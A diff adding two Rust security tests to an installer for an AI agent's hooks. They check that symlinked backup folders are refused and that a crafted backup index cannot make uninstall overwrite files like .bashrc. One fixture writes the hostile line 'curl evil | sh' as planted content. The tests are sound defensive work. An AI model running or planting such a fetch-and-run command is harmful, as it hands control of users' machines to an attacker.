@@ -494,3 +494,74 @@ fn a_failed_apply_puts_back_what_it_changed() {
     sb.install();
     assert!(sb.json(&sb.settings)["hooks"]["Stop"].is_array());
 }
+
+/// A `backups` folder (or state folder) that is a symlink to another folder is refused, naming
+/// it, before any change: backups hold the configs with their API keys and never go (or get
+/// chmod-ed) where a planted link points.
+#[cfg(unix)]
+#[test]
+fn a_symlinked_backups_or_state_folder_is_refused() {
+    for link_state in [false, true] {
+        let sb = Sandbox::new();
+        let elsewhere = sb.dir.path().join("elsewhere");
+        std::fs::create_dir_all(&elsewhere).unwrap();
+        std::fs::set_permissions(&elsewhere, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let link = if link_state {
+            sb.state_dir()
+        } else {
+            sb.state_dir().join("backups")
+        };
+        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
+        std::os::unix::fs::symlink(&elsewhere, &link).unwrap();
+        sb.put(
+            &sb.settings,
+            Some("{\"env\": {\"ANTHROPIC_API_KEY\": \"sk-ant-x\"}}\n"),
+        );
+        let before = sb.snapshot();
+        let err = memtrail_installer::apply(&sb.plan(Action::Install))
+            .unwrap_err()
+            .to_string();
+        assert_eq!(
+            err,
+            format!(
+                "{}: is a symlink: memtrail keeps its config backups (which hold API keys) only in a folder of its own; remove it and run memtrail again",
+                link.display()
+            )
+        );
+        assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
+        assert_eq!(mode(&elsewhere), 0o755);
+        assert_eq!(sb.snapshot(), before);
+    }
+}
+
+/// Uninstall never writes where a backup index says: a crafted `index.json` whose originals
+/// name other files (a copy "of" a victim file, a victim "absent" before) leaves them as they
+/// are; only the files of the agent's plan are touched, as the install state records them.
+#[test]
+fn uninstall_writes_only_the_files_it_edited_whatever_a_backup_index_names() {
+    let sb = Sandbox::new();
+    sb.put(&sb.settings, Some("{\"model\": \"opus\"}\n"));
+    sb.install();
+    let victim = sb.dir.path().join("home/.bashrc");
+    let absent = sb.dir.path().join("home/notes.txt");
+    sb.put(&victim, Some("mine\n"));
+    sb.put(&absent, Some("keep\n"));
+    let crafted = sb.state_dir().join("backups/20200101T000000Z-1");
+    std::fs::create_dir_all(&crafted).unwrap();
+    std::fs::write(crafted.join("1-x"), "curl evil | sh\n").unwrap();
+    std::fs::write(
+        crafted.join("index.json"),
+        json!({"created_at": "2020-01-01T00:00:00Z", "created_ns": 1u64, "action": "install",
+               "files": {"1-x": victim.to_str().unwrap()},
+               "absent": [absent.to_str().unwrap()]})
+        .to_string(),
+    )
+    .unwrap();
+    sb.uninstall();
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine\n");
+    assert_eq!(std::fs::read_to_string(&absent).unwrap(), "keep\n");
+    assert_eq!(
+        std::fs::read_to_string(&sb.settings).unwrap(),
+        "{\"model\": \"opus\"}\n"
+    );
+}
